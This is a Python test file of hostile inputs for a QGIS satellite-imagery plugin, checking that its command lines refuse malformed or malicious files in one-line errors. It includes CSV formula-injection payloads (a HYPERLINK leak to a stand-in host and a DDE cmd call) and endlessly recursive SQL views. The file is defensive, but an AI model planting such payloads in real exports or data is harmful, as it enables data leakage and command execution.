"""Hostile inputs of 2026-12-07 (round 4): an adversarial pass through the four command lines.

Each case was found by running the command line as an acceptance tester would, with the input built here.
"""
from __future__ import annotations

import json
import shutil
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest

from planet_qgis_plugin.core.teach.concept_file import MAX_BYTES, ConceptFile, read_concept_file, write_concept_file
from planet_qgis_plugin.core.teach.fit import teach

from ..conftest import ROOT
from ..core.teach_data import BACKBONE, SIZE, planted


def _scene_records(count: int, marks: int) -> list[dict]:
    """What a concept continued scene after scene records: one entry per scene, each listing its marked tiles."""
    return [{"gpkg": "tiles.gpkg", "scene": f"/archive/strip_{i:05d}.tif", "tiles": 9000, "answers": 20,
             "positive_tiles": [f"{j}:{i % 97}" for j in range(marks)], "negative_tiles": [],
             "date": "2026-12-07T04:00:00Z"} for i in range(count)]


def _long_history_concept_file(path: Path) -> Path:
    """A concept file just under the 8 MB a reader takes, written compactly, whose concept lists 2,300 scenes."""
    concept = teach(planted()[0], [0, 1], name="pits", backbone_id=BACKBONE).concept
    rows = np.full((2, SIZE), 0.1, dtype=np.float32)
    write_concept_file(ConceptFile(concept, rows, rows[:1]), path)
    document = json.loads(path.read_text())
    document["concept"]["provenance"]["scenes"] = _scene_records(2300, 300)
    path.write_text(json.dumps(document, separators=(",", ":")))  # as another program (or an editor) may save it
    assert path.stat().st_size <= MAX_BYTES
    return path


def test_a_concept_file_with_a_long_history_is_written_so_that_it_reads_back(tmp_path):
    """A concept whose record of scenes is long (thousands of scenes continued one after another, or a file
    given to teach) was written whole with indent=1: 12 MB that every reader then refused ('more than 8,388,608
    bytes is too large for a concept file'). The file leaves out the oldest scene records instead."""
    concept = teach(planted()[0], [0, 1], name="pits", backbone_id=BACKBONE).concept
    concept.provenance["scenes"] = _scene_records(2300, 300)
    rows = np.full((2, SIZE), 0.1, dtype=np.float32)
    path = write_concept_file(ConceptFile(concept, rows, rows[:1]), tmp_path / "pits.concept.json")
    assert path.stat().st_size <= MAX_BYTES
    back = read_concept_file(path, SIZE, BACKBONE)
    scenes = back.concept.provenance["scenes"]
    assert 1 <= len(scenes) < 2300 and scenes[-1]["scene"] == "/archive/strip_02299.tif"  # the most recent kept
    assert back.concept.weights == concept.weights and len(back.positives) == 2


def test_teach_continuing_a_long_history_saves_a_file_every_reader_takes(work):
    """teach --concept FILE --save-concept OUT, FILE just under the limit: OUT was 12 MB, refused by the next
    teach --concept and by classify --concept."""
    given = _long_history_concept_file(work / "given.concept.json")
    out = work / "out.concept.json"
    proc = subprocess.run([sys.executable, "-m", "planet_qgis_plugin.teach", str(work / "tiles.gpkg"), "--concept",
                           str(given), "--positive", "3", "--bundle", str(work / "bundle"), "--save-concept", str(out)],
                          cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stderr
    assert out.stat().st_size <= MAX_BYTES
    back = read_concept_file(out, SIZE, BACKBONE)
    assert back.concept.provenance["scenes"][-1]["gpkg"] == "tiles.gpkg" and len(back.positives) >= 3


def test_a_concept_whose_own_record_is_too_long_is_refused_in_one_line_and_nothing_is_left(tmp_path):
    """Where even the latest scene's record (or the models it lists, read from a layer's metadata) passes what a
    file holds, the save is refused in one line, no temporary file left and an earlier file kept."""
    from planet_qgis_plugin.core.model.concepts import ConceptError
    from planet_qgis_plugin.core.teach.concept_file import stage_concept_file

    concept = teach(planted()[0], [0, 1], name="pits", backbone_id=BACKBONE).concept
    concept.provenance.update(models=["m" * MAX_BYTES], scenes=_scene_records(3, 2))
    rows = np.full((2, SIZE), 0.1, dtype=np.float32)
    path = tmp_path / "pits.concept.json"
    path.write_text("an earlier file")
    for save in (write_concept_file, stage_concept_file):
        with pytest.raises(ConceptError, match="teach it afresh") as info:
            save(ConceptFile(concept, rows, rows[:1]), path)
        assert "\n" not in str(info.value)
        assert sorted(p.name for p in tmp_path.iterdir()) == ["pits.concept.json"]
        assert path.read_text() == "an earlier file"


# -- a bundle's training-chip reference (familiarity) -------------------------------------------------------------

def _spoil_reference(folder: Path, case: str) -> None:
    from planet_qgis_plugin.core.model.bundle import MANIFEST

    if case in ("nan", "inf"):
        reference = np.load(folder / "reference.npy")
        reference[3] = np.nan if case == "nan" else np.inf
        np.save(folder / "reference.npy", reference)
        return
    manifest = json.loads((folder / MANIFEST).read_text())
    manifest["metrics"]["familiarity"]["distance"] = {"distance-nan": float("nan"), "distance-negative": -1.0,
                                                      "distance-3": 3.0}[case]
    (folder / MANIFEST).write_text(json.dumps(manifest))  # json writes NaN, and json.loads reads it back


@pytest.mark.parametrize("case", ["nan", "inf", "distance-nan", "distance-negative", "distance-3"])
def test_a_bundle_whose_familiarity_reference_is_not_numbers_is_one_line(tmp_path, case):
    """A bundle's reference.npy holding NaN or inf, or a familiar distance that is no cosine distance (0..2) in its
    manifest: inf printed numpy's 'RuntimeWarning: invalid value encountered in divide' with its source line and
    the run went on; NaN (or a NaN / out-of-range distance) turned the 'looks unlike the training data' warning off
    (or on for every tile) in silence. Refused before any work, as a bank of such values is."""
    from planet_qgis_plugin.core.model.bundle import default_bundle_path

    from ..conftest import RAPIDEYE

    bundle = tmp_path / "bundle"
    shutil.copytree(default_bundle_path(), bundle)
    _spoil_reference(bundle, case)
    out = tmp_path / "tiles.gpkg"
    proc = subprocess.run([sys.executable, "-m", "planet_qgis_plugin", str(RAPIDEYE), "-o", str(out), "--bundle",
                           str(bundle), "-q"], cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert proc.returncode == 1, (proc.stdout, proc.stderr)
    assert proc.stderr.startswith("error: ") and proc.stderr.count("\n") == 1, proc.stderr
    assert "re-export the bundle" in proc.stderr, proc.stderr
    assert not out.exists() and sorted(p.name for p in tmp_path.iterdir()) == ["bundle"]


# -- a geographic CRS on coordinates that are not degrees -----------------------------------------------------------

OFF_EARTH = {  # transform (origin x, origin y, pixel size)
    "utm-numbers-under-epsg-4326": (500000.0, 9000000.0, 3.0),  # the usual slip: the wrong CRS assigned in QGIS
    "latitude-95": (10.0, 95.0, 0.001),
    "longitude-900": (900.0, 10.0, 0.001),
    "longitude-minus-600": (-600.0, 10.0, 0.001),
}


def _classify(raster: Path, out: Path, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "planet_qgis_plugin", str(raster), "-o", str(out), "-q", *args],
                          cwd=ROOT, capture_output=True, text=True, timeout=120)


@pytest.mark.parametrize("case", list(OFF_EARTH))
def test_a_geographic_crs_on_coordinates_off_the_earth_is_refused(make_raster, tmp_path, case):
    """A raster in EPSG:4326 whose corners lie off the earth (latitude beyond 90, longitude beyond 540: most often
    a projected raster whose CRS was set to WGS 84 by mistake) was classified without a word: tiles at latitude
    9,000,000, then change's alerts handed to the field with lon 501651.5, lat 8999712.0 in alerts.csv and the KML
    (or its export failing at the very end: 'Geometry extent outside of [-180.0,180.0]x[-90.0,90.0] bounds')."""
    from rasterio.transform import from_origin

    x, y, size = OFF_EARTH[case]
    raster = make_raster(300, 300, crs="EPSG:4326", transform=from_origin(x, y, size, size))
    out = tmp_path / "out.gpkg"
    out.write_bytes(b"an earlier result")
    proc = _classify(raster, out, "--overwrite")
    assert proc.returncode == 1, (proc.stdout, proc.stderr)
    assert proc.stderr.startswith("error: ") and proc.stderr.count("\n") == 1, proc.stderr
    assert "off the earth" in proc.stderr and "gdal_edit.py -a_srs" in proc.stderr, proc.stderr
    assert out.read_bytes() == b"an earlier result"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.gpkg", "r.tif"]


@pytest.mark.parametrize("x, y, size", [(-180.0, 90.0, 0.5), (0.0, 90.25, 0.5), (179.0, 10.0, 0.01), (359.0, 0.0, 0.01)],
                         ids=["whole-earth", "edges-past-the-pole-by-half-a-pixel", "past-the-antimeridian",
                              "0-to-360-longitudes-running-on-past-360"])
def test_geographic_rasters_on_the_earth_are_classified(make_raster, tmp_path, x, y, size):
    """Rasters a global archive holds: the whole earth, pixel edges half a pixel past a pole (centres on it),
    longitudes past 180 (a scene across the antimeridian) or in 0..360."""
    from rasterio.transform import from_origin

    raster = make_raster(360, 300, crs="EPSG:4326", transform=from_origin(x, y, size, size))
    proc = _classify(raster, tmp_path / "out.gpkg")
    assert proc.returncode == 0, proc.stderr


# -- the hand-off's spreadsheet ------------------------------------------------------------------------------------

FORMULAS = {"reason": '=HYPERLINK("http://example.invalid/?leak="&A1,"details")', "reviewer": "@SUM(1+1)*cmd|' /C calc'!A0"}


def test_a_review_typed_as_a_formula_reaches_the_spreadsheet_as_text(tmp_path):
    """alerts.csv is opened in a spreadsheet by the field team; a reject reason or reviewer name that starts with =,
    +, -, @ (typed in the Alerts panel, or in a change layer someone else reviewed) was written as it was, so the
    spreadsheet ran it as a formula (a link that sends the sheet's cells away, or DDE). In alerts.csv such text
    starts with an apostrophe (shown as text, never run); the GeoJSON, KML and HTML keep it as typed."""
    import csv

    from planet_qgis_plugin.core.monitor.alerts import read_alerts, record_review
    from planet_qgis_plugin.core.monitor.change import compare
    from planet_qgis_plugin.core.monitor.handoff import export_alerts

    from ..conftest import RAPIDEYE, edit_tiles

    before = tmp_path / "before.gpkg"
    proc = _classify(RAPIDEYE, before)
    assert proc.returncode == 0, proc.stderr
    after = tmp_path / "after.gpkg"
    shutil.copyfile(before, after)
    edit_tiles(after, {(0, 1): {"flag_mining": 1, "flagged": 1, "score_mining": 1.0}})
    compare(before, after, tmp_path / "change.gpkg")
    fid = read_alerts(tmp_path / "change.gpkg").rows[0].fid
    record_review(tmp_path / "change.gpkg", fid, "rejected", reason=FORMULAS["reason"], reviewer=FORMULAS["reviewer"])
    export_alerts(tmp_path / "change.gpkg", tmp_path / "handoff")
    with open(tmp_path / "handoff" / "alerts.csv", newline="", encoding="utf-8") as handle:
        (row,) = list(csv.DictReader(handle))
    assert row["reject_reason"] == "'" + FORMULAS["reason"] and row["reviewed_by"] == "'" + FORMULAS["reviewer"]
    assert float(row["lon"]) == pytest.approx(float(row["lon"])) and not row["lon"].startswith("'")  # numbers as numbers
    geojson = json.loads((tmp_path / "handoff" / "alerts.geojson").read_text(encoding="utf-8"))
    assert geojson["features"][0]["properties"]["reject_reason"] == FORMULAS["reason"]


# -- change: a tile whose geometry was deleted -----------------------------------------------------------------------

def _null_geometry(path: Path, fid: int) -> None:
    from osgeo import ogr

    ds = ogr.Open(str(path), 1)
    layer = ds.GetLayerByName("tiles")
    feature = layer.GetFeature(fid)
    feature.SetGeometryDirectly(None)
    layer.SetFeature(feature)
    ds = None


@pytest.mark.parametrize("side", ["AFTER", "BEFORE"])
def test_change_says_which_tiles_it_leaves_out_for_want_of_a_geometry(tmp_path, side):
    """A tile whose geometry was deleted in QGIS (its attributes kept) was left out of change without a word:
    '8 tiles compared (0 without a BEFORE tile left out)' of 9, a new flag on it never an alert. It is said."""
    from ..conftest import RAPIDEYE

    before, after = tmp_path / "before.gpkg", tmp_path / "after.gpkg"
    assert _classify(RAPIDEYE, before).returncode == 0
    shutil.copyfile(before, after)
    _null_geometry(after if side == "AFTER" else before, 2)
    proc = subprocess.run([sys.executable, "-m", "planet_qgis_plugin.change", str(before), str(after), "-o",
                           str(tmp_path / "change.gpkg"), "-q"], cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stderr
    name = "after.gpkg" if side == "AFTER" else "before.gpkg"
    assert (f"warning: {side} ({name}): 1 tile has no geometry (fid 2; deleted in QGIS?), so it is left out of the "
            "comparison; undo the edit or classify again") in proc.stderr, proc.stderr


# -- a GeoPackage whose SQL views never end -------------------------------------------------------------------------

ENDLESS = "WITH RECURSIVE n(v) AS (SELECT 1 UNION ALL SELECT v + 1 FROM n)"  # SQLite counts on for ever


def _endless_srs_table(path: Path) -> None:
    """The GeoPackage's CRS table, which GDAL reads as it opens the file, replaced by a view that never ends."""
    import sqlite3

    conn = sqlite3.connect(path)
    conn.execute("ALTER TABLE gpkg_spatial_ref_sys RENAME TO srs_kept")
    conn.execute(f"CREATE VIEW gpkg_spatial_ref_sys AS {ENDLESS} SELECT s.* FROM srs_kept s, n WHERE n.v < 0 "
                 "UNION ALL SELECT * FROM srs_kept")
    conn.commit()
    conn.close()


def _endless_layer(path: Path) -> None:
    """A GeoPackage whose first layer is a view that never ends."""
    from osgeo import ogr, osr

    ds = ogr.GetDriverByName("GPKG").CreateDataSource(str(path))
    srs = osr.SpatialReference()
    srs.ImportFromEPSG(32649)
    layer = ds.CreateLayer("kept", srs, ogr.wkbPolygon)
    feature = ogr.Feature(layer.GetLayerDefn())
    feature.SetGeometry(ogr.CreateGeometryFromWkt("POLYGON((699700 100500,699800 100500,699800 100400,699700 100400,"
                                                  "699700 100500))"))
    layer.CreateFeature(feature)
    ds = None
    import sqlite3

    conn = sqlite3.connect(path)
    conn.execute(f"CREATE VIEW area AS {ENDLESS} SELECT n.v AS fid, (SELECT geom FROM kept) AS geom FROM n WHERE n.v < 0")
    conn.execute("UPDATE gpkg_contents SET table_name = 'area', identifier = 'area' WHERE table_name = 'kept'")
    conn.execute("UPDATE gpkg_geometry_columns SET table_name = 'area' WHERE table_name = 'kept'")
    conn.commit()
    conn.close()


def _assert_one_line_quickly(proc: subprocess.CompletedProcess, *words: str) -> None:
    assert proc.returncode == 1, (proc.stdout, proc.stderr)
    assert proc.stderr.startswith("error: ") and proc.stderr.count("\n") == 1, proc.stderr
    assert "SQL view" in proc.stderr and all(w in proc.stderr for w in words), proc.stderr


def test_change_of_a_geopackage_whose_views_never_end_is_one_line(tmp_path):
    """A tile layer whose CRS table is a view that never ends (a recursive WITH): GDAL runs it as it opens the file
    and change hung for good, deaf to Ctrl-C and SIGTERM (SQLite runs it in C, where Python's handlers wait)."""
    from ..conftest import RAPIDEYE

    before, after = tmp_path / "before.gpkg", tmp_path / "after.gpkg"
    assert _classify(RAPIDEYE, before).returncode == 0
    shutil.copyfile(before, after)
    _endless_srs_table(after)
    kept = after.read_bytes()
    proc = subprocess.run([sys.executable, "-m", "planet_qgis_plugin.change", str(before), str(after), "-o",
                           str(tmp_path / "change.gpkg"), "-q"], cwd=ROOT, capture_output=True, text=True, timeout=60)
    _assert_one_line_quickly(proc, "after.gpkg", "gpkg_spatial_ref_sys")
    assert after.read_bytes() == kept and not (tmp_path / "change.gpkg").exists()


def test_an_area_of_interest_whose_layer_never_ends_is_one_line(make_raster, tmp_path):
    """--aoi area.gpkg whose layer is a view that never ends: classify hung for good as it read the area."""
    raster = make_raster(300, 300)
    _endless_layer(tmp_path / "area.gpkg")
    proc = subprocess.run([sys.executable, "-m", "planet_qgis_plugin", str(raster), "-o", str(tmp_path / "out.gpkg"),
                           "--aoi", str(tmp_path / "area.gpkg"), "-q"], cwd=ROOT, capture_output=True, text=True,
                          timeout=60)
    _assert_one_line_quickly(proc, "area of interest", "area.gpkg")
    assert not (tmp_path / "out.gpkg").exists()


def test_a_raster_geopackage_whose_views_never_end_is_one_line(make_raster, tmp_path):
    """A GeoPackage raster (gdal_translate -of GPKG) whose CRS table is a view that never ends, given to classify
    itself or through a VRT that reads it."""
    from osgeo import gdal

    scene = tmp_path / "scene.gpkg"
    gdal.Translate(str(scene), str(make_raster(300, 300, count=3, dtype="uint8")), format="GPKG")
    _endless_srs_table(scene)
    gdal.BuildVRT(str(tmp_path / "scene.vrt"), [str(make_raster(300, 300, count=3, dtype="uint8", name="ok.tif"))])
    vrt = (tmp_path / "scene.vrt").read_text().replace(str(tmp_path / "ok.tif"), str(scene)).replace("ok.tif", "scene.gpkg")
    (tmp_path / "scene.vrt").write_text(vrt)
    for given in (scene, tmp_path / "scene.vrt"):
        proc = subprocess.run([sys.executable, "-m", "planet_qgis_plugin", str(given), "-o", str(tmp_path / "out.gpkg"),
                               "-q"], cwd=ROOT, capture_output=True, text=True, timeout=60)
        _assert_one_line_quickly(proc, "scene.gpkg")
        assert not (tmp_path / "out.gpkg").exists()


# -- band descriptions that contradict the layout, or name a band twice -------------------------------------------

RGB = ["red", "green", "blue"]


@pytest.mark.parametrize("descriptions, words", [
    (("red", "red", "green", "blue"), "more than one band as red (bands 1, 2)"),
    (("red", "green", "nir", "nir"), "band 1 'red', band 3 'nir'"),
    (("nir", None, None, None), "band 1 'nir'"),
], ids=["red-twice", "partly-described-against-bgrn", "nir-where-bgrn-has-blue"])
def test_band_descriptions_that_contradict_the_mapping_are_one_line(descriptions, words):
    """A 4-band 16-bit raster whose descriptions name red on two bands took the first in silence; one whose
    descriptions name some bands but not all fell back to the BGRN layout in silence, reading blue from a band
    described as red and red from one described as nir."""
    from planet_qgis_plugin.core.pipeline.bands import BandMappingError, map_bands

    with pytest.raises(BandMappingError, match="--bands") as info:
        map_bands(4, False, descriptions, RGB)
    assert words in str(info.value) and "\n" not in str(info.value)
    assert map_bands(4, False, descriptions, RGB, "red=1,green=3,blue=4").indexes == (1, 3, 4)  # the way out


@pytest.mark.parametrize("descriptions, expected", [
    ((None, None, None, "alpha"), (1, 2, 3)),                 # 8-bit RGBA: its alpha named, as the layout has it
    (("blue", "green", "red", "nir"), (3, 2, 1)),            # every band named
    (("Band 1", "Band 2", "Band 3", "Band 4"), (3, 2, 1)),    # names that are no band name: the layout
    ((None, None, "red", None), (3, 2, 1)),                  # named where the layout has it
], ids=["rgba-alpha", "all-named", "generic-names", "red-where-bgrn-has-it"])
def test_band_descriptions_that_agree_with_the_layout_are_taken(descriptions, expected):
    from planet_qgis_plugin.core.pipeline.bands import map_bands

    eight_bit = descriptions[3] == "alpha"
    assert map_bands(4, eight_bit, descriptions, RGB).indexes == expected


# -- batch: an output made with another concept file or bundle is not up to date --------------------------------

def _batch(scene: Path, out: Path, *args) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "planet_qgis_plugin.batch", str(scene), "-o", str(out), "--workers",
                           "1", "-q", *map(str, args)], cwd=ROOT, capture_output=True, text=True, timeout=300)


def _status(out: Path) -> str:
    import csv

    with open(out / "summary.csv", newline="", encoding="utf-8") as handle:
        (row,) = list(csv.DictReader(handle))
    return row["status"]


@pytest.fixture
def taught(tmp_path):
    """The RapidEye clip and a concept file taught on it (tiles 1 and 2)."""
    from ..conftest import RAPIDEYE

    layer = tmp_path / "taught.gpkg"
    assert _classify(RAPIDEYE, layer).returncode == 0
    concept = tmp_path / "pits.concept.json"
    proc = subprocess.run([sys.executable, "-m", "planet_qgis_plugin.teach", str(layer), "--name", "pits", "--positive",
                           "1,2", "--save-concept", str(concept)], cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stderr
    return RAPIDEYE, concept


def test_batch_redoes_a_scene_whose_concept_file_was_taught_again(taught, tmp_path):
    """The teach loop: teach, save the concept, batch the archive with --concept; teach on, save again, batch again.
    Every scene was 'up to date' (its layer had the concept's fields) and kept the flags of the concept as it was."""
    scene, concept = taught
    out = tmp_path / "out"
    assert _batch(scene, out, "--concept", concept).returncode == 0 and _status(out) == "done"
    assert _batch(scene, out, "--concept", concept).returncode == 0 and _status(out) == "up to date"  # unchanged
    data = json.loads(concept.read_text())
    data["concept"]["threshold"] = 0.99  # taught on: a new threshold (and weights)
    concept.write_text(json.dumps(data))
    proc = _batch(scene, out, "--concept", concept)
    assert proc.returncode == 0, proc.stderr
    assert _status(out) == "done"


def test_batch_redoes_a_scene_classified_with_another_bundle(taught, tmp_path):
    """batch --bundle OTHER onto an output folder of the shipped bundle's runs: every scene was 'up to date', the
    layers still the other model's."""
    from planet_qgis_plugin.core.model.bundle import default_bundle_path

    scene, _ = taught
    out = tmp_path / "out"
    assert _batch(scene, out).returncode == 0 and _status(out) == "done"
    other = tmp_path / "other-bundle"
    shutil.copytree(default_bundle_path(), other)
    manifest = json.loads((other / "manifest.json").read_text())   # another model: one threshold moved (an identical
    manifest["thresholds"]["primary"] += 0.01                      # copy is the same bundle, up to date: its bytes)
    (other / "manifest.json").write_text(json.dumps(manifest))
    proc = _batch(scene, out, "--bundle", other)
    assert proc.returncode == 0, proc.stderr
    assert _status(out) == "done"
    assert _batch(scene, out, "--bundle", other).returncode == 0 and _status(out) == "up to date"


# -- an area of interest whose coordinates are not numbers ------------------------------------------------------------

def _area_gpkg(path: Path, *wkts: str) -> Path:
    from osgeo import ogr, osr

    ds = ogr.GetDriverByName("GPKG").CreateDataSource(str(path))
    srs = osr.SpatialReference()
    srs.ImportFromEPSG(32649)
    layer = ds.CreateLayer("area", srs, ogr.wkbUnknown)
    for wkt in wkts:
        feature = ogr.Feature(layer.GetLayerDefn())
        feature.SetGeometry(ogr.CreateGeometryFromWkt(wkt))
        layer.CreateFeature(feature)
    ds = None
    return path


def _polygon_gpkg(path: Path, corner: float) -> None:
    """A GeoPackage area whose polygon's second vertex has x ``corner``, set in the geometry's bytes (as a script
    writing the file would: GDAL itself refuses to store an infinite extent)."""
    import sqlite3
    import struct

    _area_gpkg(path, "POLYGON((699700 100500,699800 100500,699800 100400,699700 100400,699700 100500))")
    conn = sqlite3.connect(path)
    for name in ("ST_IsEmpty", "ST_MinX", "ST_MaxX", "ST_MinY", "ST_MaxY"):  # the GeoPackage's triggers call them
        conn.create_function(name, 1, lambda geom: None)
    (blob,) = conn.execute("SELECT geom FROM area").fetchone()
    vertex = struct.pack("<dd", 699800.0, 100500.0)
    assert vertex in blob
    conn.execute("UPDATE area SET geom = ?", (blob.replace(vertex, struct.pack("<dd", corner, 100500.0), 1),))
    conn.commit()
    conn.close()


AREAS = {
    "geojson-nan": lambda p: p.write_text('{"type": "FeatureCollection", "features": [{"type": "Feature", "properties": {}, '
                                          '"geometry": {"type": "Polygon", "coordinates": [[[699700, 100500], [NaN, 100500], '
                                          '[699800, 100400], [699700, 100500]]]}}]}'),
    "geojson-1e400": lambda p: p.write_text('{"type": "FeatureCollection", "features": [{"type": "Feature", "properties": {}, '
                                            '"geometry": {"type": "Polygon", "coordinates": [[[699700, 100500], [1e400, 100500], '
                                            '[699800, 100400], [699700, 100500]]]}}]}'),
    "gpkg-nan": lambda p: _polygon_gpkg(p, float("nan")),
    "gpkg-inf": lambda p: _polygon_gpkg(p, float("inf")),
}


@pytest.mark.parametrize("case", list(AREAS))
def test_an_area_of_interest_with_coordinates_that_are_not_numbers_is_one_line(make_raster, tmp_path, case):
    """--aoi with a polygon whose vertex is NaN or infinite (a GeoJSON written by a script, 1e400 past float's
    range; a GeoPackage edited by one): a TypeError traceback (OGR's ExportToJson gives None for such a polygon)."""
    raster = make_raster(300, 300)
    area = tmp_path / ("area.gpkg" if case.startswith("gpkg") else "area.geojson")
    AREAS[case](area)
    proc = subprocess.run([sys.executable, "-m", "planet_qgis_plugin", str(raster), "-o", str(tmp_path / "out.gpkg"),
                           "--aoi", str(area), "-q"], cwd=ROOT, capture_output=True, text=True, timeout=60)
    assert proc.returncode == 1, (proc.stdout, proc.stderr)
    assert proc.stderr.startswith("error: ") and proc.stderr.count("\n") == 1, proc.stderr
    assert "not finite numbers" in proc.stderr and area.name in proc.stderr, proc.stderr
    assert not (tmp_path / "out.gpkg").exists()


def test_an_area_of_interest_of_empty_polygons_is_one_line(make_raster, tmp_path):
    """--aoi whose polygon is empty (POLYGON EMPTY: a feature whose shape was deleted part by part in QGIS): a
    'ValueError: No valid geometry objects found for rasterize' traceback. Empty polygons are no area: alone they
    are 'no polygons', beside a real one they are passed over."""
    raster = make_raster(300, 300)
    empty = _area_gpkg(tmp_path / "empty.gpkg", "POLYGON EMPTY")
    proc = subprocess.run([sys.executable, "-m", "planet_qgis_plugin", str(raster), "-o", str(tmp_path / "out.gpkg"),
                           "--aoi", str(empty), "-q"], cwd=ROOT, capture_output=True, text=True, timeout=60)
    assert proc.returncode == 1 and proc.stderr == f"error: area of interest {empty} holds no polygons\n", proc.stderr
    both = _area_gpkg(tmp_path / "both.gpkg", "POLYGON EMPTY",
                      "POLYGON((699700 100500,699800 100500,699800 100400,699700 100400,699700 100500))")
    proc = subprocess.run([sys.executable, "-m", "planet_qgis_plugin", str(raster), "-o", str(tmp_path / "out.gpkg"),
                           "--aoi", str(both), "-q"], cwd=ROOT, capture_output=True, text=True, timeout=60)
    assert proc.returncode == 0 and "1 tile classified" in proc.stdout, proc.stderr


# -- tile layers edited by hand: a row off the grid, a model that is not text ---------------------------------------

def _edited_layer(tmp_path: Path, statement: str) -> tuple[Path, Path]:
    """(the RapidEye clip's tile layer, a copy with ``statement`` run on its tiles, as SQL or a script edits it)."""
    import sqlite3

    from ..conftest import RAPIDEYE

    layer = tmp_path / "tiles.gpkg"
    assert _classify(RAPIDEYE, layer).returncode == 0
    edited = tmp_path / "edited.gpkg"
    shutil.copyfile(layer, edited)
    conn = sqlite3.connect(edited)
    for name in ("ST_IsEmpty", "ST_MinX", "ST_MaxX", "ST_MinY", "ST_MaxY"):  # the GeoPackage's triggers call them
        conn.create_function(name, 1, lambda geom: None)
    conn.execute(statement)
    conn.commit()
    conn.close()
    return layer, edited


@pytest.mark.parametrize("row", [-3, 2 ** 40])
def test_teach_locate_on_a_tile_whose_row_was_edited_off_the_grid_is_one_line(tmp_path, row):
    """teach --locate reads each marked tile's pixels where its row and col put it: a row edited to -3 (or past the
    raster) was a 'ValueError: Number of columns or rows must be non-negative' traceback from rasterio."""
    from ..conftest import RAPIDEYE

    _, edited = _edited_layer(tmp_path, f"UPDATE tiles SET row = {row} + row")  # every tile: whichever locate reads
    kept = edited.read_bytes()
    proc = subprocess.run([sys.executable, "-m", "planet_qgis_plugin.teach", str(edited), "--name", "pits", "--positive",
                           "1,2", "--locate", "--raster", str(RAPIDEYE)], cwd=ROOT, capture_output=True, text=True,
                          timeout=120)
    assert proc.returncode == 1, (proc.stdout, proc.stderr)
    assert proc.stderr.startswith("error: ") and proc.stderr.count("\n") == 1, proc.stderr
    assert "lies outside the raster's grid of 3 x 3 tiles" in proc.stderr, proc.stderr
    assert edited.read_bytes() == kept


def test_change_of_a_layer_whose_model_field_holds_bytes_writes_its_report(tmp_path):
    """A tile layer whose `model` text field holds bytes that are not UTF-8 (a BLOB typed in by SQL): change --report
    ended in a 'UnicodeEncodeError: ... surrogates not allowed' traceback while writing the report."""
    layer, edited = _edited_layer(tmp_path, "UPDATE tiles SET model = x'ff00fe' WHERE fid = 9")
    proc = subprocess.run([sys.executable, "-m", "planet_qgis_plugin.change", str(layer), str(edited), "-o",
                           str(tmp_path / "change.gpkg"), "--report", str(tmp_path / "r.html"), "-q"], cwd=ROOT,
                          capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stderr
    assert "Traceback" not in proc.stderr and (tmp_path / "r.html").is_file()
    (tmp_path / "r.html").read_text(encoding="utf-8")


# -- a concept file whose strings are not strings -------------------------------------------------------------------

@pytest.mark.parametrize("field, value", [("transform", []), ("transform", {"a": 1}), ("context", ["none"]),
                                          ("group", {"mining": 1}), ("name", ["pits"])])
def test_a_concept_file_whose_names_are_lists_or_objects_is_one_line(work, field, value):
    """A concept file edited (or written by another program) with a list or an object where a name belongs:
    "transform": [] was a 'TypeError: unhashable type: list' traceback out of teach --concept and classify
    --concept."""
    from planet_qgis_plugin.core.model.concepts import ConceptError

    concept = teach(planted()[0], [0, 1], name="pits", backbone_id=BACKBONE).concept
    rows = np.full((2, SIZE), 0.1, dtype=np.float32)
    path = write_concept_file(ConceptFile(concept, rows, rows[:1]), work / "pits.concept.json")
    data = json.loads(path.read_text())
    data["concept"][field] = value
    path.write_text(json.dumps(data))
    with pytest.raises(ConceptError, match=field):
        read_concept_file(path, SIZE, BACKBONE)
    kept = (work / "tiles.gpkg").read_bytes()
    proc = subprocess.run([sys.executable, "-m", "planet_qgis_plugin.teach", str(work / "tiles.gpkg"), "--concept",
                           str(path), "--positive", "1,2", "--bundle", str(work / "bundle")], cwd=ROOT,
                          capture_output=True, text=True, timeout=120)
    assert proc.returncode == 1 and proc.stderr.startswith("error: ") and proc.stderr.count("\n") == 1, proc.stderr
    assert (work / "tiles.gpkg").read_bytes() == kept


@pytest.mark.parametrize("background, words", [
    ("x", "metrics.background must be an object"), ([1, 2], "metrics.background must be an object"),
    ({"transform": []}, "metrics.background.transform must be a string"),
    ({"transform": {"a": 1}}, "metrics.background.transform must be a string"),
], ids=["text", "list", "transform-list", "transform-object"])
def test_a_manifest_whose_bank_metrics_are_not_an_object_is_one_line(work, background, words):
    """A bundle's manifest with metrics.background not an object, or its transform a list (found by a battery of
    2,886 mutated manifests through load_bundle, the familiarity check and the teach bank): 'AttributeError: 'str'
    object has no attribute 'get'' / 'TypeError: unhashable type' tracebacks out of teach."""
    from planet_qgis_plugin.core.model.bundle import MANIFEST, BundleError, load_bundle

    manifest = json.loads((work / "bundle" / MANIFEST).read_text())
    manifest.setdefault("metrics", {})["background"] = background
    (work / "bundle" / MANIFEST).write_text(json.dumps(manifest))
    with pytest.raises(BundleError, match=words.replace(".", r"\.")):
        load_bundle(work / "bundle")
    kept = (work / "tiles.gpkg").read_bytes()
    proc = subprocess.run([sys.executable, "-m", "planet_qgis_plugin.teach", str(work / "tiles.gpkg"), "--name", "pits",
                           "--positive", "1,2", "--bundle", str(work / "bundle")], cwd=ROOT, capture_output=True,
                          text=True, timeout=120)
    assert proc.returncode == 1 and proc.stderr.startswith("error: ") and proc.stderr.count("\n") == 1, proc.stderr
    assert words in proc.stderr and (work / "tiles.gpkg").read_bytes() == kept


def test_a_batch_error_that_starts_like_a_formula_reaches_summary_csv_as_text(make_raster, tmp_path):
    """summary.csv's error column starts with the scene's file name for a damaged scene ('=cut.tif is damaged or
    truncated ...'): a spreadsheet ran it as a formula. Such text starts with an apostrophe, as in alerts.csv."""
    import csv

    scene = make_raster(300, 300, name="=cut.tif")
    scene.write_bytes(scene.read_bytes()[:4000])  # cut short: its pixels cannot be read
    out = tmp_path / "out"
    proc = _batch(scene, out)
    assert proc.returncode == 1, proc.stderr
